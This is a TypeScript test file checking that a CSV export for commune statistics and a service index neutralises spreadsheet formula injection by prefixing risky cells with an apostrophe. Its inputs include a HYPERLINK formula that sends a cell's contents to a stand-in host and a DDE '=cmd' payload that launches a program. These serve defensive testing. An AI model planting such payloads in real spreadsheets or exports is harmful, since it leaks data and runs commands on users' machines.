import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvDocument, parseCsv } from '../../shared/domain/csv.js';
import { serviceIndex, serviceIndexCsv } from '../../shared/domain/service-index.js';
import { statistics, statisticsCsv } from '../../shared/domain/statistics.js';

/** The cells of a one-line document, read back as a spreadsheet would (quotes undone). */
function cellsOf(csv: string): string[] {
  const line = csv.slice(1).split('\r\n')[1]!;
  const cells: string[] = [];
  for (const m of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)) {
    const raw = m[1]!;
    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (m[2] === '') break;
  }
  return cells;
}

describe('a CSV document', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('never starts a text cell with %j, which a spreadsheet would run as a formula', (prefix) => {
    const cells = cellsOf(csvDocument(['name'], [[`${prefix}HYPERLINK("http://x.example/?"&A1,"Bấm")`]]));
    expect(cells[0]!.startsWith("'")).toBe(true);
    expect(cells[0]!.slice(1)).toBe(`${prefix}HYPERLINK("http://x.example/?"&A1,"Bấm")`);
  });

  it('keeps numbers as numbers, negative ones included, and ordinary text as it is', () => {
    expect(cellsOf(csvDocument(['a', 'b', 'c', 'd'], [[-3, 0.75, 'Tân Uyên', null]]))).toEqual(['-3', '0.75', 'Tân Uyên', '']);
  });

  it('has a byte-order mark, CRLF line ends and quotes what holds a comma, a quote or a line break', () => {
    const csv = csvDocument(['x'], [['a,b'], ['say "hi"'], ['two\nlines']]);
    expect(csv).toBe('\uFEFFx\r\n"a,b"\r\n"say ""hi"""\r\n"two\nlines"\r\n');
  });

  it('marks a text that already begins with an apostrophe, so that it reads back whole', () => {
    expect(cellsOf(csvDocument(['x'], [["'@"]]))).toEqual(["''@"]);
    expect(parseCsv(csvDocument(['x'], [["'@"], ["'abc"], ['@x']]))).toEqual([['x'], ["'@"], ["'abc"], ['@x']]);
  });

  it('reads back every text cell exactly, after the apostrophe it may have gained', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const [read] = cellsOf(csvDocument(['x'], [[text]]));
        expect(/^[=+\-@\t\r]/.test(read!)).toBe(false);
        expect(read!.replace(/^'(?=[=+\-@\t\r'])/, '')).toBe(text);
      }),
    );
  });

  it('is what the statistics and the service index download: a commune named like a formula stays text', () => {
    const name = '=cmd|"/c calc"!A1';
    const stats = statistics([], '2026-03-01', '2026-03-31', 'commune');
    const line = { ...stats.total, group: 'H30.09', name };
    expect(statisticsCsv({ ...stats, lines: [line] })).toContain(`H30.09,"'=cmd|""/c calc""!A1"`);
    const index = serviceIndex([], '2026-03-01', '2026-03-31', { byCommune: true, communes: [{ code: 'H30.09', name }] });
    expect(serviceIndexCsv(index)).toContain(`H30.09,"'=cmd|""/c calc""!A1"`);
  });
});
